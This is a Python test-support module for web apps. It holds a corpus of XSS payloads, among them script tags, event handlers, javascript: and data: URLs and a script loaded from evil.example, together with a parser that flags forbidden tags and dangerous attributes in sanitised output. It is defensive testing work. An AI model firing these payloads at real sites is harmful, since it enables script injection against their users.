"""A corpus of XSS payloads to throw at every text field (shared by all apps' tests).

Each should come back either refused or neutralised: rich-text fields cleaned by nh3 (no
script, no event handlers, no javascript: links), plain-text fields escaped on output.
"""

from __future__ import annotations

from html.parser import HTMLParser

XSS_PAYLOADS: tuple[str, ...] = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<body onload="alert(1)">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<!--<img src=--><img src=x onerror=alert(1)//-->",
)

# Elements that may never reach a browser from people's input.
FORBIDDEN_TAGS = frozenset(
    {"script", "iframe", "svg", "object", "embed", "form", "input", "style", "math", "body"}
)


class _Inspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in {"style", "srcdoc", "formaction"}:
                self.problems.append(f"{tag}[{name}]")
            # charrefs are converted, so "&#106;avascript:" is seen as "javascript:"
            url = (value or "").strip().lower().replace("\t", "").replace("\n", "")
            if name in {"href", "src", "action", "data"} and url.startswith(
                ("javascript:", "data:", "vbscript:")
            ):
                self.problems.append(f"{tag}[{name}={value}]")


def markup_problems(html: str) -> list[str]:
    """What in this HTML a browser could run: [] when the markup is harmless.

    Escaped text (&lt;script&gt;) is text, not markup, and is rightly not reported.
    """
    inspector = _Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.problems
